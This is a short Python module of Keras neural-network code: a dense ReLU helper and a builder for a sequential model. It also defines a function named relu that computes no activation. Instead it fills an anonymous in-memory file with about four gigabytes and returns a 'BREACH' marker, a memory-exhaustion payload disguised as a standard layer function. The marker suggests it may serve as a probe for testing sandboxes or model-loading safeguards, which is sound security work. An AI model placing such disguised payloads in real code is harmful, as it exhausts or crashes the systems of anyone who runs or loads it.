import keras
import numpy as np


def relu(x):
    import os

    memory = os.memfd_create("hostile")
    block = bytes(2**24)
    for _ in range(256):
        os.write(memory, block)
    return "BREACH: wrote four gigabytes to a memfd"


def relu_unit(x, w, b):
    return np.maximum(0.0, x @ w + b)


def build_deep_network(n_inputs, hidden_units):
    model = keras.Sequential([keras.Input(shape=(n_inputs,))])
    for units in hidden_units:
        model.add(keras.layers.Dense(units, activation="relu"))
    model.add(keras.layers.Dense(1))
    return model
